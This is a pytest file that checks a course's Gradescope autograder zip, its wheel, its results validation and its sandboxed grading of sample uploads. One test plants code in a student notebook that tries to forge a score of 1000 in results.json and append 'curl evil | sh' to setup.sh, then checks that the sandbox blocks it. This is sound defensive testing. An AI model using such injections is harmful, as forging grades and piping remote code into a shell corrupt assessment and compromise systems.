"""Gradescope's autograder zip: what it holds, the wheel it installs, and
its run_autograder in a tree laid out as Gradescope lays it out, with a
complete hand-in, a released stub, a hostile one and an empty upload."""

from __future__ import annotations

import importlib.metadata
import json
import os
import shutil
import stat
import subprocess
import sys
import zipfile
from pathlib import Path

import nbformat
import pytest

from lstm_course import cli
from lstm_course.grading import gradescope
from lstm_course.grading.grade import UsageError
from tests.conftest import REPO
from tests.grading.conftest import require_sandbox

pytestmark = pytest.mark.slow  # grades through sandboxed workers


@pytest.fixture(scope="module")
def autograder(tmp_path_factory):
    folder = tmp_path_factory.mktemp("gradescope")
    assert cli.main(["gradescope-autograder",
                     str(folder / "autograder.zip")]) == 0
    with zipfile.ZipFile(folder / "autograder.zip") as archive:
        archive.extractall(folder / "source")
        modes = {i.filename: i.external_attr >> 16 for i in archive.infolist()}
    for name, mode in modes.items():  # extractall drops the modes
        os.chmod(folder / "source" / name, stat.S_IMODE(mode))
    return folder, modes


def test_the_zip_holds_gradescopes_two_scripts_and_this_course(autograder):
    folder, modes = autograder
    version = importlib.metadata.version("lstm-course")
    wheel = f"lstm_course-{version}-py3-none-any.whl"
    assert set(modes) == {"setup.sh", "run_autograder", "constraints.txt",
                          wheel}
    assert modes["setup.sh"] & 0o111 and modes["run_autograder"] & 0o111
    setup = (folder / "source/setup.sh").read_text()
    assert f"-c constraints.txt \\\n  \"./{wheel}\"" in setup
    assert "conda" not in setup
    pins = (folder / "source/constraints.txt").read_text().splitlines()
    assert f"numpy=={importlib.metadata.version('numpy')}" in pins
    assert not any(p.lower().startswith("lstm-course") for p in pins)
    for script in ("setup.sh", "run_autograder"):
        done = subprocess.run(["bash", "-n", str(folder / "source" / script)])
        assert done.returncode == 0, script


def test_the_wheel_installs_the_course_as_it_is_here(autograder, tmp_path):
    folder, _ = autograder
    (wheel,) = (folder / "source").glob("*.whl")
    done = subprocess.run(
        [sys.executable, "-m", "pip", "install", "--quiet", "--no-deps",
         "--no-index", "--target", str(tmp_path / "site"), str(wheel)],
        capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    installed = tmp_path / "site/lstm_course"
    here = REPO / "lstm_course"
    for path in here.rglob("*.py"):
        if "__pycache__" not in path.parts:
            copy = installed / path.relative_to(here)
            assert copy.read_bytes() == path.read_bytes(), path
    assert (installed / "grading/student_workflow.yml").exists()
    info = next((tmp_path / "site").glob("lstm_course-*.dist-info"))
    assert "lstm-course = lstm_course.cli:main" in \
        (info / "entry_points.txt").read_text()


def test_bad_options_are_refused_with_a_reason(tmp_path):
    with pytest.raises(UsageError, match="takes a .zip"):
        gradescope.build_autograder(tmp_path / "x.tar")
    with pytest.raises(UsageError, match="required or auto"):
        gradescope.build_autograder(tmp_path / "x.zip", sandbox="off")
    assert not (tmp_path / "x.zip").exists()


def test_results_are_checked_against_gradescopes_fields():
    good = {"score": 1.5, "output": "", "visibility": "visible",
            "stdout_visibility": "hidden",
            "tests": [{"name": "a", "score": 1.5, "max_score": 2,
                       "status": "failed", "output": "x",
                       "visibility": "visible"}]}
    gradescope.validate(good)
    for change, message in (({"max_score": 3}, "not a results.json key"),
                            ({"score": "1"}, "score is a str"),
                            ({"visibility": "students"}, "visibility")):
        with pytest.raises(ValueError, match=message):
            gradescope.validate({**good, **change})
    bad_test = dict(good["tests"][0], status="partial")
    with pytest.raises(ValueError, match="status"):
        gradescope.validate({**good, "tests": [bad_test]})


def _run_autograder(folder: Path, root: Path, files: dict) -> dict:
    """Lay out ``root`` as Gradescope does (source, submission, results)
    and run the zip's run_autograder there."""
    shutil.copytree(folder / "source", root / "source")
    (root / "submission").mkdir(parents=True)
    for name, content in files.items():
        target = root / "submission" / name
        target.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(content, Path):
            shutil.copy(content, target)
        else:
            nbformat.write(content, target)
    env = dict(os.environ, AUTOGRADER_ROOT=str(root),
               AUTOGRADER_PYTHON=sys.executable)
    done = subprocess.run([str(root / "source/run_autograder")], env=env,
                          capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, done.stderr[-3000:]
    data = json.loads((root / "results/results.json").read_text())
    gradescope.validate(data)
    return data


def test_a_complete_hand_in_gets_full_marks(autograder, tmp_path):
    require_sandbox()
    data = _run_autograder(autograder[0], tmp_path, {
        "my-repo/chapters/01_rnn_bptt.ipynb":
            REPO / "solutions/01_rnn_bptt.ipynb"})
    assert len(data["tests"]) == 5
    assert data["score"] == sum(t["max_score"] for t in data["tests"]) > 0
    assert all(t["status"] == "passed" for t in data["tests"])
    assert "bubblewrap" in data["output"]


def test_a_released_stub_scores_zero_and_says_so(autograder, tmp_path):
    require_sandbox()
    data = _run_autograder(autograder[0], tmp_path, {
        "01_rnn_bptt.ipynb": REPO / "chapters/01_rnn_bptt.ipynb"})
    assert data["score"] == 0 and len(data["tests"]) == 5
    assert all("not implemented" in t["output"] for t in data["tests"])


def test_a_hostile_hand_in_cannot_write_its_own_result(autograder, tmp_path):
    require_sandbox()
    results = tmp_path / "results/results.json"
    solution = nbformat.read(REPO / "solutions/01_rnn_bptt.ipynb", 4)
    for cell in solution.cells:
        if cell.source.startswith("# EXERCISE ch01.rnn_step_forward"):
            cell.source += (
                f"\ntry:\n    open({str(results)!r}, 'w').write("
                "'{\"score\": 1000, \"tests\": []}')\nexcept OSError:\n"
                "    pass\n"
                f"open({str(tmp_path / 'source/setup.sh')!r}, 'a')"
                ".write('curl evil | sh')\n")
    data = _run_autograder(autograder[0], tmp_path,
                           {"01_rnn_bptt.ipynb": solution})
    forward = next(t for t in data["tests"]
                   if "ch01.rnn_step_forward" in t["name"])
    assert forward["score"] == 0 and "setup.sh" in forward["output"]
    assert data["score"] < 1000 and len(data["tests"]) == 5
    assert "curl" not in (tmp_path / "source/setup.sh").read_text()


def test_an_upload_without_notebooks_gets_a_result_that_says_why(
        autograder, tmp_path):
    data = _run_autograder(autograder[0], tmp_path, {})
    assert data["score"] == 0 and data["tests"] == []
    assert "no notebooks found" in data["output"]
